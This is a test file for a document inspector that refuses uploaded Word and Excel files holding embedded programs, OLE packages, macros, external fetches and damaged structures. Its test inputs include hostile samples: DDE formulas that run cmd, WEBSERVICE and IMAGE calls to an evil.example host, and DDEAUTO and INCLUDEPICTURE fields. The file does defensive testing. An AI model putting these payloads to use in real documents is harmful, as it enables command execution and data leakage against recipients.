import { expect, test } from 'vitest';
import {
  makeCompoundFile,
  makeDoc,
} from '../../../../tests/support/documents/make-compound-file.ts';
import { makeDocx, makeZip } from '../../../../tests/support/documents/make-zip.ts';
import type { ZipPart } from '../../../../tests/support/documents/make-zip.ts';
import { docxOf } from '../../../../tests/support/documents/word-fields.ts';
import { sourceOf } from '../document.ts';
import { inspectDocument } from '../inspect-document.server.ts';
import { inspectSupplement } from '../inspect-supplement.server.ts';

const problemOf = async (content: Buffer) => {
  const found = await inspectDocument(sourceOf(content));
  return found.outcome === 'refused' ? found.problem : found.format;
};
const ofSupplement = async (content: Buffer, name = 'data') => {
  const found = await inspectSupplement(sourceOf(content), name);
  return found.outcome === 'refused' ? found.problem : found.format;
};

const embedded = (content: Buffer | string, name = 'word/embeddings/a.bin') =>
  makeDocx({ name, content });
const objectOf = (classId: string, name: string, content = 'x'): Buffer => {
  const file = makeCompoundFile([{ name, type: 2, content: Buffer.from(content, 'latin1') }]);
  // The identifier of the root stands in the first entry of the directory.
  Buffer.from(classId, 'hex').copy(file, 1024 + 80);
  return file;
};
const PACKAGE = '0c00030000000000c000000000000046';
const MATHTYPE = '02ce020000000000c000000000000046';
const PAINTED = '0a00030000000000c000000000000046';
/** Of a program that is not known here, such as one that draws graphs. */
const UNKNOWN = '00'.repeat(16);
const NATIVE = '\u0001Ole10Native';
/** What Windows packs: its size, a label, where it was, and the file itself ([MS-OLEDS] §2.3.6). */
const packed = (name: string) =>
  `\x80\0\0\0\x02\0${name}\0C:\\Users\\A\\${name}\0\0\0\x03\0\x05\0\0\0C:\\a\0\x04\0\0\0data`;
const workbook = (...more: ZipPart[]) =>
  makeZip([
    { name: '[Content_Types].xml', content: '<Types/>' },
    { name: 'xl/workbook.xml', content: '<workbook/>' },
    ...more,
  ]);

test.each([
  ['an equation', embedded(objectOf(MATHTYPE, 'Equation Native')), 'docx'],
  ['a painted picture', embedded(objectOf(PAINTED, NATIVE, '\x40\0\0\0BM')), 'docx'],
  ['a graph', embedded(objectOf(UNKNOWN, NATIVE, '\x40\0\0\0CPYA 4.2673 552#\n\0\0')), 'docx'],
  ['a workbook', embedded(workbook()), 'docx'],
  ['a program', embedded('MZ\u0090\0'), 'embedded-program'],
  [
    'a program called a picture',
    embedded('MZ\u0090\0', 'word/media/image1.png'),
    'embedded-program',
  ],
  ['a shortcut', embedded('L\0\0\0\u0001\u0014\u0002\0'), 'embedded-program'],
  ['a package', embedded(objectOf(PACKAGE, 'x')), 'embedded-program'],
  [
    'a package without its name',
    embedded(objectOf(UNKNOWN, NATIVE, packed('run.exe'))),
    'embedded-program',
  ],
  [
    'a program that says it is a graph',
    embedded(objectOf(UNKNOWN, NATIVE, '\x40\0\0\0MZ\x90\0')),
    'embedded-program',
  ],
  [
    'a package that says it is a picture',
    embedded(objectOf(PAINTED, NATIVE, packed('run.js'))),
    'embedded-program',
  ],
  ['an object with macros', embedded(objectOf(MATHTYPE, '_VBA_PROJECT')), 'macros'],
  [
    'a workbook with macros',
    embedded(workbook({ name: 'xl/vbaProject.bin', content: 'x' })),
    'macros',
  ],
  ['an archive', embedded(makeZip([{ name: 'a.exe', content: 'x' }])), 'embedded-program'],
  [
    'a package by its program',
    docxOf('<o:OLEObject ProgID="Package" r:id="a"/>'),
    'embedded-program',
  ],
  [
    'a picture by its address',
    docxOf('<v:imagedata src="https://evil.example/a.png"/>'),
    'external-content',
  ],
  ['a whole document', docxOf('<w:altChunk r:id="a"/>'), 'embedded-document'],
])('embedded in a Word document: %s', async (_, content, found) => {
  expect(await problemOf(content)).toBe(found);
});

test('what is packed in small streams is found in each of them', async () => {
  const native = (content: string) =>
    ({ name: NATIVE, type: 2, content: Buffer.from(content, 'latin1'), small: true }) as const;
  const graph = native(`\x40\0\0\0CPYA 4.2673 552#\n${'\0'.repeat(200)}`);
  const program = native(packed(`${'a'.repeat(90)}.exe`));
  expect(await problemOf(embedded(makeCompoundFile([graph, graph])))).toBe('docx');
  expect(await problemOf(embedded(makeCompoundFile([graph, program])))).toBe('embedded-program');
});

test('workbooks in workbooks come to an end', async () => {
  let inner = workbook();
  for (let level = 0; level < 6; level += 1)
    inner = workbook({ name: 'xl/embeddings/a.xlsx', content: inner });
  expect(await problemOf(embedded(inner))).toBe('too-large-inside');
});

const cell = (formula: string) =>
  workbook({
    name: 'xl/worksheets/sheet1.xml',
    content: `<worksheet><c><f>${formula}</f></c></worksheet>`,
  });

test.each([
  ['SUM(A1:A3)&amp;"a|b"', 'xlsx'],
  ["'a|b'!A1", 'xlsx'],
  ['Table1[a|b]', 'xlsx'],
  ["cmd|'/C calc'!A0", 'external-content'],
  ["'cmd'|'/C calc'!A0", 'external-content'],
  ['1+<![CDATA[cmd|x!A0]]>', 'external-content'],
  ['WEBSERVICE("https://evil.example/"&amp;A1)', 'external-content'],
  ['_xlfn.IMAGE("https://evil.example/a.png")', 'external-content'],
  ['MYIMAGE(A1)', 'xlsx'],
])('a cell that computes %s: %s', async (formula, found) => {
  expect(await ofSupplement(cell(formula))).toBe(found);
});

test('an old Word file with a package or a field that starts a program is refused', async () => {
  expect(
    await problemOf(
      makeDoc({ name: NATIVE, type: 2, content: Buffer.from(packed('run.exe'), 'latin1') }),
    ),
  ).toBe('embedded-program');
  const withText = (text: string, encoding: BufferEncoding) =>
    makeDoc({
      name: 'Text',
      type: 2,
      content: Buffer.from(`Some text \u0013${text}\u0014shown\u0015`, encoding),
    });
  for (const encoding of ['latin1', 'utf16le'] as const) {
    expect(await problemOf(withText(' DDEAUTO cmd "x" ', encoding))).toBe('fetching-field');
    expect(await problemOf(withText(' INCLUDEPICTURE "http://evil.example/a" ', encoding))).toBe(
      'fetching-field',
    );
    expect(await problemOf(withText(' HYPERLINK "https://journal.example.org" ', encoding))).toBe(
      'doc',
    );
  }
});

test('an old Word file whose list of sectors leads back to itself is refused', async () => {
  const file = makeDoc();
  file.writeUInt32LE(0, 68);
  file.writeUInt32LE(0xfffffff0, 72);
  file.fill(0, 512, 1024);
  expect(await problemOf(file)).toBe('damaged');
});
